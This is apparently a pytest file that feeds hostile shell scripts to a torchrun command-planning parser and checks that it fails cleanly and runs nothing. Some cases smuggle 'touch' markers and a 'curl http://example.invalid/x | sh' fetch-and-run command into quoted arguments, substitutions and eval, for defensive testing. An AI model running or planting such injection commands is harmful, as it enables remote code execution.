"""Hostile input: the command engine answers with a clean error or unknown fields, never a crash.

Every input goes through the real ``rankdebug plan --file ... --line ... --json`` command and
through the in-process API. Through the CLI the answer is either a plan (exit 0) or exit 2 with
``{"error": {"message", "line", "column"}}`` on stdout, and never a traceback. In process the
only exception allowed is ``CommandError``, and it carries a line >= 1. Nothing in the text is
ever executed: inputs that would run ``touch MARKER`` if executed are checked for the marker.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from rankdebug.command import CommandError, plan_file, plan_text

# ---------------------------------------------------------------- helpers


def _rankdebug() -> list[str]:
    exe = shutil.which("rankdebug", path=str(Path(sys.executable).parent))
    return [exe] if exe else [sys.executable, "-m", "rankdebug"]


def _clean_env() -> dict[str, str]:
    keep = ("PATH", "SYSTEMROOT", "TMPDIR", "TEMP", "TMP", "VIRTUAL_ENV", "PYTHONPATH")
    env = {k: os.environ[k] for k in keep if k in os.environ}
    env["LANG"] = env["LC_ALL"] = "C.UTF-8"
    return env


def run_cli(path: Path, line: int) -> tuple[int, Any, str]:
    """Exit status, parsed stdout, stderr of `rankdebug plan --file PATH --line LINE --json`."""
    proc = subprocess.run(
        [*_rankdebug(), "plan", "--file", str(path), "--line", str(line), "--json"],
        cwd=path.parent, env=_clean_env(), capture_output=True, timeout=120, check=False,
    )
    stderr = proc.stderr.decode("utf-8", "replace")
    assert "Traceback" not in stderr, stderr
    assert proc.returncode in (0, 2), (
        f"exit {proc.returncode}\nstdout: {proc.stdout!r}\nstderr: {stderr}"
    )
    try:
        out = json.loads(proc.stdout)
    except ValueError:
        pytest.fail(f"stdout is not JSON (exit {proc.returncode}): {proc.stdout[:500]!r}")
    if proc.returncode == 2:
        err = out.get("error")
        assert isinstance(err, dict), out
        assert isinstance(err.get("message"), str) and err["message"], out
        assert isinstance(err.get("line"), int) and err["line"] >= 1, out
        assert isinstance(err.get("column"), int) and err["column"] >= 1, out
    else:
        assert isinstance(out.get("launcher"), str), out
        json.dumps(out)
    return proc.returncode, out, stderr


def run_api(data: bytes, path: Path, line: int) -> dict[str, Any] | None:
    """The in-process plan as JSON, or None when the engine refused with a CommandError."""
    try:
        plan = plan_file(path, line, cwd=path.parent)
    except CommandError as e:
        assert e.line is not None and e.line >= 1, f"CommandError without a line: {e!r}"
        return None
    out = plan.to_json()
    json.dumps(out)
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError:
        return out
    try:  # the text API must agree that this is plannable
        plan_text(text, line, cwd=path.parent).to_json()
    except CommandError as e:
        assert e.line is not None and e.line >= 1, f"CommandError without a line: {e!r}"
    return out


@dataclass
class Hostile:
    name: str
    data: bytes | Callable[[Path], bytes]  # a callable gets the marker path
    line: int
    # Extra checks on a plan, when the engine returns one (CLI JSON form).
    on_plan: Callable[[dict[str, Any]], None] | None = None
    # The engine must return a plan (exit 0), not an error.
    must_plan: bool = False


def _nproc_unknown(plan: dict[str, Any]) -> None:
    assert plan["launcher"] == "torchrun", plan
    assert plan["nproc_per_node"] is None, plan
    assert plan["world_size"] is None, plan
    assert plan["warnings"], plan


def _heredoc_body_is_not_a_command(plan: dict[str, Any]) -> None:
    # The line sits inside the heredoc body: it is data fed to `cat`, not a torchrun command.
    assert plan["launcher"] == "other", plan
    assert plan["nproc_per_node"] != 8, plan


def _single_argv_word(marker_name: str) -> Callable[[dict[str, Any]], None]:
    def check(plan: dict[str, Any]) -> None:
        assert plan["launcher"] == "torchrun", plan
        assert plan["entry"] == {"kind": "script", "target": "train.py"}, plan
        args = plan["entry_args"]
        assert args[0] == "--name", plan
        assert len(args) == 2, plan
        assert marker_name in args[1] and "curl" in args[1] and "| sh" in args[1], plan
    return check


def _crlf_plan(plan: dict[str, Any]) -> None:
    assert plan["launcher"] == "torchrun", plan
    assert plan["nproc_per_node"] == 2, plan
    assert plan["entry"] == {"kind": "script", "target": "train.py"}, plan
    assert plan["entry_args"] == ["--lr", "1e-4"], plan
    assert plan["span"]["start_line"] == 3 and plan["span"]["end_line"] == 4, plan
    crlf = re.compile(r"(?i)crlf|\\r\\n|carriage")
    assert any(crlf.search(w) for w in plan["warnings"]), plan["warnings"]


T = b"torchrun --nproc_per_node "  # the start of most hostile commands
CURL = "curl http://example.invalid/x | sh"

HOSTILE = [
    Hostile("unterminated_double_quote", T + b'2 train.py --name "oops\nsecond line\n', 1),
    Hostile("unterminated_single_quote", b"NPROC=2\n" + T + b"$NPROC train.py --name 'oops\n", 2),
    Hostile("unterminated_command_substitution", T + b"$(nvidia-smi -L | wc -l train.py\n", 1),
    Hostile("dangling_continuation_at_eof", T + b"2 train.py \\", 1),
    Hostile(
        "crlf_line_endings",
        b"#!/bin/bash\r\nNPROC=2\r\n" + T + b"$NPROC \\\r\n    train.py --lr 1e-4\r\n",
        4, on_plan=_crlf_plan, must_plan=True,
    ),
    Hostile("nul_bytes", T + b"2 tr\x00ain.py --x \x00\x00\n", 1),
    Hostile("nul_byte_line_before", b"\x00\x00\x00\n" + T + b"2 train.py\n", 2),
    Hostile("non_utf8_bytes", T + b"2 train.py --name caf\xe9 --x \xff\xfe\n", 1),
    Hostile("latin1_comment_then_command", b"# r\xe9sum\xe9 of the run\n" + T + b"2 train.py\n", 2),
    Hostile("line_of_200_kb", T + b"2 train.py " + b"--flag-with-a-long-name " * 8400 + b"\n", 1),
    Hostile("word_of_200_kb", T + b"2 train.py --blob " + b"x" * 200_000 + b"\n", 1),
    Hostile(
        "heredoc_body_line",
        b"cat > run.sh <<EOF\n" + T + b"8 train.py\nEOF\n" + T + b"2 real.py\n",
        2, on_plan=_heredoc_body_is_not_a_command,
    ),
    Hostile(
        "quoted_heredoc_body_line",
        lambda m: f"cat > run.sh <<'EOF'\n{T.decode()}$(touch {m}) 8 train.py\nEOF\n".encode(),
        2, on_plan=_heredoc_body_is_not_a_command,
    ),
    Hostile(
        "dash_heredoc_body_line",
        b"cat <<-EOF > run.sh\n\t" + T + b"8 train.py\n\tEOF\n",
        2, on_plan=_heredoc_body_is_not_a_command,
    ),
    Hostile("unterminated_heredoc", b"cat <<EOF\n" + T + b"8 train.py\n", 2),
    Hostile(
        "command_substitution_nproc",
        lambda m: T + f'$(touch {m}; echo 2) train.py --out "$(date +%s)"\n'.encode(),
        1, on_plan=_nproc_unknown, must_plan=True,
    ),
    Hostile(
        "backtick_substitution_nproc",
        lambda m: T + f"`touch {m}; echo 2` train.py\n".encode(),
        1, on_plan=_nproc_unknown, must_plan=True,
    ),
    Hostile(
        "substitution_in_assignment",
        lambda m: f"N=$(touch {m}; nproc)\n".encode() + T + b"$N train.py\n",
        2, on_plan=_nproc_unknown, must_plan=True,
    ),
    Hostile(
        "injection_in_quoted_argument",
        lambda m: T + f'2 train.py --name "x; touch {m}; {CURL}"\n'.encode(),
        1, on_plan=_single_argv_word("ran"), must_plan=True,
    ),
    Hostile(
        "injection_in_single_quoted_argument",
        lambda m: T + f"2 train.py --name 'x; touch {m}; {CURL}'\n".encode(),
        1, on_plan=_single_argv_word("ran"), must_plan=True,
    ),
    Hostile(
        "injection_after_semicolon", lambda m: T + f"2 train.py; touch {m}; {CURL}\n".encode(), 1,
    ),
    Hostile(
        "process_substitution",
        lambda m: T + f"2 train.py --cfg <(touch {m}; echo a: 1)\n".encode(), 1,
    ),
    Hostile("eval_of_variable", lambda m: f"CMD='touch {m}'\neval $CMD\n".encode(), 2),
    Hostile(
        "nested_command_substitution_5000",
        T + b"$(" * 5000 + b"echo 2" + b")" * 5000 + b" train.py\n", 1,
    ),
    Hostile("unbalanced_command_substitution_5000", T + b"$(" * 5000 + b" train.py\n", 1),
    Hostile(
        "nested_arithmetic_10000",
        T + b"$((" + b"$((" * 10000 + b"1" + b"))" * 10000 + b")) train.py\n", 1,
    ),
    Hostile(
        "nested_parentheses_in_arithmetic_10000",
        b"N=$((" + b"(" * 10000 + b"2" + b")" * 10000 + b"))\n" + T + b"$N train.py\n", 2,
    ),
    Hostile(
        "nested_parameter_expansion_5000",
        T + b"${X:-" * 5000 + b"2" + b"}" * 5000 + b" train.py\n", 1,
    ),
    Hostile("nested_subshells_5000", b"(" * 5000 + T + b"2 train.py" + b")" * 5000 + b"\n", 1),
    Hostile(
        "deep_if_nesting_2000",
        b"if true; then\n" * 2000 + T + b"2 train.py\n" + b"fi\n" * 2000, 2001,
    ),
    Hostile("line_past_the_end", T + b"2 train.py\n", 99),
    Hostile("empty_file", b"", 1),
    Hostile("only_comments", b"# nothing to see\n# here\n", 2),
    Hostile("binary_garbage", bytes(range(256)) * 64, 3),
    Hostile("terminal_escapes_and_controls", T + b"2 train.py --x \x1b[31m\x07\x08\x7f\n", 1),
    Hostile(
        "many_lines_of_continuations",
        T + b"2 train.py \\\n" + b"  --x 1 \\\n" * 5000 + b"  --y 2\n", 2500,
    ),
    Hostile("markdown_unterminated_fence", b"# title\n\n```bash\n" + T + b"2 train.py\n", 4),
]


@pytest.mark.parametrize("case", HOSTILE, ids=[h.name for h in HOSTILE])
def test_hostile_input(case: Hostile, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    data = case.data(marker) if callable(case.data) else case.data
    suffix = ".md" if case.name.startswith("markdown") else ".sh"
    script = tmp_path / f"hostile{suffix}"
    script.write_bytes(data)

    code, out, _ = run_cli(script, case.line)
    api = run_api(data, script, case.line)

    assert not marker.exists(), "something in the script was executed"
    if case.must_plan:
        assert code == 0, out
        assert api is not None
    if code == 0 and case.on_plan is not None:
        case.on_plan(out)
    if api is not None and case.on_plan is not None:
        case.on_plan(api)


def test_heredoc_does_not_hide_the_next_command(tmp_path: Path) -> None:
    script = tmp_path / "heredoc.sh"
    data = (b"cat > hosts <<EOF\nworker-1 slots=8\nEOF\n"
            b"torchrun --nproc_per_node 2 real.py --epochs 1\n")
    script.write_bytes(data)
    code, out, _ = run_cli(script, 4)
    assert code == 0, out
    assert out["launcher"] == "torchrun"
    assert out["nproc_per_node"] == 2
    assert out["entry"] == {"kind": "script", "target": "real.py"}
    assert out["entry_args"] == ["--epochs", "1"]
    assert out["span"]["start_line"] == 4 and out["span"]["end_line"] == 4


def test_plan_text_rejects_bad_line_numbers_with_a_line() -> None:
    for line in (0, -1, 10_000):
        with pytest.raises(CommandError) as info:
            plan_text("torchrun --nproc_per_node 2 train.py\n", line)
        assert info.value.line is not None and info.value.line >= 1


# tree-sitter-bash's scanner reads the character after `{` with C's isdigit(): past
# U+00FF that indexes glibc's table out of bounds, and a process parsing `{` + U+10FFFF
# died about one time in two (address-space layout decides). Eight processes each parse
# such texts (the language server's path too); without the guard in syntax.py, all eight
# surviving had odds of about 1 in 256.
WIDE_AFTER_BRACE = ["{\U0010ffff", "echo {12\U000f0000}", "x={1..2\U0010ffff}",
                    "torchrun --nproc_per_node 2 {\U0001f600,\u4e2d}.py", "${\U000f0000}"]


def test_brace_then_a_wide_character_does_not_crash_the_parser() -> None:
    code = (
        "import sys\n"
        "from rankdebug.command import CommandError, plan_text\n"
        "from rankdebug.command.incremental import DocumentPlans\n"
        "from rankdebug.command.syntax import parse, text\n"
        f"for s in {WIDE_AFTER_BRACE!r}:\n"
        "    assert text(parse(s).root_node) == s  # nodes read the original text back\n"
        "    try:\n"
        "        plan_text(s, 1)\n"
        "    except CommandError:\n"
        "        pass\n"
        "    DocumentPlans(path='x.sh').update(s + '\\n' + s)\n"
    )
    procs = [subprocess.Popen([sys.executable, "-c", code], stderr=subprocess.PIPE, text=True)
             for _ in range(8)]
    results = [(p.wait(timeout=120), p.stderr.read() if p.stderr else "") for p in procs]
    assert all(rc == 0 for rc, _ in results), results


def test_a_word_after_brace_keeps_its_wide_characters() -> None:
    line = "torchrun --nproc_per_node 2 train_{\u4e2d\U0001f600}.py --x {\U0010ffff}\n"
    plan = plan_text(line, 1)
    args = json.dumps(plan.to_json(), ensure_ascii=False)
    assert "train_{\u4e2d\U0001f600}.py" in args and "{\U0010ffff}" in args
